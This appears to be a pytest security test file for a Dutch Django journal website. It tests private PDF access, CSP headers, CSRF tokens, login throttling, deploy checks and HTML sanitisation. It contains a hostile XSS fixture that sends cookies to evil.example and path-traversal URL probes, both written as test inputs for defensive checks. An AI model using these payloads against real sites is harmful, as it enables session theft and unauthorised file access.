"""Security: private PDFs, headers, CSRF on every form, login throttling, deploy checks, sanitised HTML."""

from __future__ import annotations

import contextlib
import datetime
import os
import secrets
import subprocess
import sys
from pathlib import Path
from urllib.parse import quote

import pytest
import time_machine
from django.conf import settings
from django.test import Client
from django.urls import resolve
from django.utils import timezone
from lxml import html

from accounts.models import User
from journals.models import Article, Issue
from tests import factories
from tests.conftest import PASSWORD, login

# --- Private PDFs -----------------------------------------------------------------------------------


def _body(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)  # the client closes it at the end, as a WSGI server would
    return response.content


def test_the_pdf_file_is_reachable_only_through_the_access_checked_view(
    client: Client, subscriber: User, article: Article, frozen_today: datetime.date
) -> None:
    """Sem may read the PDF, yet not even he finds it anywhere but at the article's PDF URL."""
    login(client, subscriber)
    stored = Path(article.pdf.path)
    assert stored.read_bytes() == factories.PDF_BYTES
    name = article.pdf.name  # e.g. pdf/2026/groepswerk-met-ouders-in-perspectief.pdf
    media_root = Path(resolve("/media/covers/x.jpg").kwargs["document_root"])
    assert not stored.resolve().is_relative_to(media_root.resolve()), "PDFs must live outside MEDIA_ROOT"
    climb = os.path.relpath(stored, media_root / "covers")  # ../../private/pdf/... from the served folder

    guesses = [
        f"/media/{name}",
        f"/media/pdf/{stored.name}",
        f"/media/private/{name}",
        f"/media/covers/{climb}",
        "/media/covers/" + quote(climb, safe=""),
        "/media/covers/" + climb.replace("..", "%2e%2e"),
        f"/media/covers/{stored.resolve()}",
        f"/media/covers//{stored.resolve()}",
        f"/private/{name}",
        f"/private/{stored.name}",
        f"/var/private/{name}",
        f"/static/{name}",
        f"/static/../private/{name}",
        f"/{name}",
        f"/-/private/{name}",
        f"/-/private-files-are-not-served/{name}",
    ]
    with contextlib.suppress(ValueError):  # a private storage may refuse to name a URL at all
        guesses.append(article.pdf.url)
    for url in guesses:
        response = client.get(url)
        assert response.status_code in (400, 404), (url, response.status_code)
        assert factories.PDF_BYTES not in _body(response), url

    # The one way in still works for him.
    response = client.get(article.get_pdf_url())
    assert response.status_code == 200
    assert _body(response) == factories.PDF_BYTES


# --- Headers -------------------------------------------------------------------------------------------


def _csp(response) -> dict[str, list[str]]:
    header = response["Content-Security-Policy"]
    directives = (part.split() for part in header.split(";") if part.strip())
    return {name: values for name, *values in directives}


@pytest.mark.parametrize(
    "url",
    [
        "/",
        "/ouderschapskennis/",
        "/ouderschapskennis/archief/",
        "/ouderschapskennis/2024/3/",
        "/ouderschapskennis/2024/3/groepswerk-met-ouders-in-perspectief/",
        "/account/login/",
        "/account/signup/",
        "/bestaat-niet/",
    ],
)
def test_pages_carry_a_strict_content_security_policy(client: Client, article: Article, url: str) -> None:
    response = client.get(url)
    assert response.status_code in (200, 404)
    csp = _csp(response)
    assert csp["default-src"] == ["'self'"]
    assert "'unsafe-inline'" not in csp["script-src"]
    assert "'unsafe-eval'" not in csp["script-src"]
    assert csp["object-src"] == ["'none'"]
    assert csp["frame-ancestors"] == ["'none'"]
    assert csp["base-uri"] == ["'none'"]
    assert response["X-Frame-Options"] == "DENY"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Referrer-Policy"] == "same-origin"

    # The policy only works if the pages keep to it: no inline script without the nonce, no inline styles.
    document = html.fromstring(response.content)
    # A JSON-LD data block (issue 10) is not script: HTML never executes it and CSP does not apply to it.
    for script in document.xpath("//script[not(@src)][not(@type='application/ld+json')]"):
        assert script.get("nonce"), f"inline script without nonce on {url}"
    assert not document.xpath("//style | //*[@style]"), f"inline style on {url} (style-src 'self' blocks it)"
    assert not document.xpath("//*[@*[starts-with(name(), 'on')]]"), f"inline event handler on {url}"


# --- CSRF -----------------------------------------------------------------------------------------------

ANONYMOUS_FORMS = ["/account/login/", "/account/signup/", "/account/password/reset/"]
READER_FORMS = ["/account/", "/account/verwijderen/", "/account/email/", "/account/password/change/"]


def _post_forms(response) -> list[html.HtmlElement]:
    assert response.status_code == 200
    return html.fromstring(response.content).xpath("//form[translate(@method, 'POST', 'post')='post']")


def _assert_every_post_form_has_a_token(url: str, forms: list[html.HtmlElement]) -> None:
    assert forms, f"{url} has no POST form"
    for form in forms:
        tokens = form.xpath(".//input[@type='hidden' and @name='csrfmiddlewaretoken']/@value")
        assert len(tokens) == 1 and len(tokens[0]) == 64, f"form {form.get('action')!r} on {url} lacks a CSRF token"


@pytest.mark.parametrize("url", ANONYMOUS_FORMS)
def test_every_post_form_for_visitors_carries_a_csrf_token(client: Client, article: Article, url: str) -> None:
    forms = _post_forms(client.get(url))
    _assert_every_post_form_has_a_token(url, forms)


@pytest.mark.parametrize("url", READER_FORMS)
def test_every_post_form_for_readers_carries_a_csrf_token(client: Client, reader: User, url: str) -> None:
    forms = _post_forms(login(client, reader).get(url))
    _assert_every_post_form_has_a_token(url, forms)
    actions = {form.get("action") for form in forms}
    assert "/account/logout/" in actions


def test_a_post_without_the_csrf_token_is_refused_with_the_dutch_page(reader: User) -> None:
    client = Client(enforce_csrf_checks=True)
    response = client.post("/account/login/", {"login": reader.email, "password": PASSWORD})
    assert response.status_code == 403
    assert "Dit formulier is verlopen" in response.content.decode()
    assert client.session.get("_auth_user_id") is None

    # With the token from the form, the same login works.
    form = _post_forms(client.get("/account/login/"))
    token = form[-1].xpath(".//input[@name='csrfmiddlewaretoken']/@value")[0]
    response = client.post(
        "/account/login/", {"login": reader.email, "password": PASSWORD, "csrfmiddlewaretoken": token}
    )
    assert response.status_code == 302
    assert client.session.get("_auth_user_id") == str(reader.pk)


# --- Login throttling ------------------------------------------------------------------------------------

TOO_MANY = "Te veel inlogpogingen"


def _log_in(client: Client, email: str, password: str):
    return client.post("/account/login/", {"login": email, "password": password})


def test_repeated_failed_logins_hold_back_that_address_at_that_account_for_a_while(
    reader: User, subscriber: User
) -> None:
    """Someone guesses Roos's password five times; their sixth try is refused even with the right password.

    Roos herself is not locked out (issue 13): the limit is on the guesser's address at her account
    (tests/test_throttling.py tells the rest of that story).
    """
    assert "5/5m/key" in settings.ACCOUNT_RATE_LIMITS["login_failed"]
    client = Client()
    for attempt in range(5):
        response = _log_in(client, reader.email, f"fout-{attempt}")
        assert response.status_code == 200
        assert TOO_MANY not in response.content.decode()
        assert client.session.get("_auth_user_id") is None

    refused = _log_in(client, reader.email, PASSWORD)
    assert refused.status_code in (200, 429)
    assert TOO_MANY in refused.content.decode()
    assert client.session.get("_auth_user_id") is None

    # Roos on another computer logs in: the guesser's failures do not lock her out.
    elsewhere = Client(REMOTE_ADDR="192.0.2.44")
    assert _log_in(elsewhere, reader.email, PASSWORD).status_code == 302
    assert elsewhere.session.get("_auth_user_id") == str(reader.pk)

    # Sem, from the same address, is not affected.
    sem = Client()
    assert _log_in(sem, subscriber.email, PASSWORD).status_code == 302
    assert sem.session.get("_auth_user_id") == str(subscriber.pk)

    # Five minutes later Roos logs in again.
    with time_machine.travel(timezone.now() + datetime.timedelta(minutes=6), tick=False):
        later = Client()
        assert _log_in(later, reader.email, PASSWORD).status_code == 302
        assert later.session.get("_auth_user_id") == str(reader.pk)


def test_a_successful_login_does_not_count_as_a_failure(reader: User) -> None:
    for _ in range(8):
        client = Client()
        assert _log_in(client, reader.email, PASSWORD).status_code == 302
        client.post("/account/logout/")


# --- Deployment settings -----------------------------------------------------------------------------------


def _manage(tmp_path: Path, *args: str, **env: str) -> subprocess.CompletedProcess[str]:
    clean_env = {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "DJANGO_SETTINGS_MODULE": "leeszaal.settings",
        "LEESZAAL_VAR_DIR": str(tmp_path / "var"),
        **env,
    }
    return subprocess.run(
        [sys.executable, "manage.py", *args],
        cwd=settings.BASE_DIR,
        env=clean_env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def test_production_settings_pass_the_deploy_check(tmp_path: Path) -> None:
    result = _manage(
        tmp_path,
        "check",
        "--deploy",
        "--fail-level",
        "WARNING",
        SECRET_KEY=secrets.token_urlsafe(50),
        DEBUG="0",
        ALLOWED_HOSTS="tijdschriften.example.nl",
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert "no issues" in result.stdout


def test_the_deploy_check_catches_a_weak_secret_key(tmp_path: Path) -> None:
    """The check above can fail: a short key is reported."""
    result = _manage(
        tmp_path,
        "check",
        "--deploy",
        "--fail-level",
        "WARNING",
        SECRET_KEY="te-kort",
        DEBUG="0",
        ALLOWED_HOSTS="tijdschriften.example.nl",
    )
    assert result.returncode != 0
    assert "security.W009" in result.stdout + result.stderr


@pytest.mark.parametrize("secret_key", [None, ""])
def test_a_missing_secret_key_with_debug_off_stops_the_start(tmp_path: Path, secret_key: str | None) -> None:
    env = {"DEBUG": "0", "ALLOWED_HOSTS": "tijdschriften.example.nl"}
    if secret_key is not None:
        env["SECRET_KEY"] = secret_key
    result = _manage(tmp_path, "check", **env)
    assert result.returncode != 0
    assert "ImproperlyConfigured: SECRET_KEY must be set when DEBUG is off." in result.stderr


def test_debug_off_is_the_default_so_a_bare_start_needs_a_key(tmp_path: Path) -> None:
    result = _manage(tmp_path, "check")
    assert result.returncode != 0
    assert "SECRET_KEY must be set" in result.stderr


def test_a_developer_with_debug_on_needs_no_key(tmp_path: Path) -> None:
    result = _manage(tmp_path, "check", DEBUG="1")
    assert result.returncode == 0, result.stderr


def test_a_malformed_debug_value_stops_the_start(tmp_path: Path) -> None:
    result = _manage(tmp_path, "check", DEBUG="misschien", SECRET_KEY=secrets.token_urlsafe(50))
    assert result.returncode != 0
    assert "ImproperlyConfigured: DEBUG must be a boolean" in result.stderr


# --- Article HTML ----------------------------------------------------------------------------------------------

HOSTILE_BODY = """
<h2 id="inleiding">Inleiding</h2>
<p onclick="steal()">Tekst met <em>nadruk</em> en <a href="https://example.org/bron">een bron</a>.</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<img src="x.png" onerror="alert(1)" alt="figuur">
<a href="javascript:alert(2)">klik</a>
<iframe src="https://evil.example/"></iframe>
<style>body { display: none }</style>
<form action="https://evil.example/"><input name="password"></form>
<svg onload="alert(3)"></svg>
"""


def test_hostile_html_in_an_article_body_is_stripped_on_save(client: Client, issue: Issue) -> None:
    article = factories.make_article(issue, access=Article.Access.OPEN, body=HOSTILE_BODY)
    article.refresh_from_db()
    stored = article.body.lower()
    for bad in (
        "<script",
        "onerror",
        "onclick",
        "onload",
        "javascript:",
        "<iframe",
        "<style",
        "<form",
        "<input",
        "<svg",
        "document.cookie",
    ):
        assert bad not in stored, bad
    assert '<h2 id="inleiding">Inleiding</h2>' in article.body
    assert "<em>nadruk</em>" in article.body
    assert 'href="https://example.org/bron"' in article.body
    assert '<img src="x.png" alt="figuur">' in article.body

    page = client.get(article.get_absolute_url()).content.decode().lower()
    # The only script element is the head's JSON-LD data block (issue 10), whose JSON escapes every "<".
    assert page.count("<script") == page.count('<script type="application/ld+json">') == 1
    assert "javascript:" not in page
    assert "onerror" not in page


def test_editing_an_article_sanitises_again(issue: Issue) -> None:
    article = factories.make_article(issue)
    article.body = '<p>Nieuw</p><script>alert("bijgewerkt")</script>'
    article.save()
    article.refresh_from_db()
    assert article.body == "<p>Nieuw</p>"
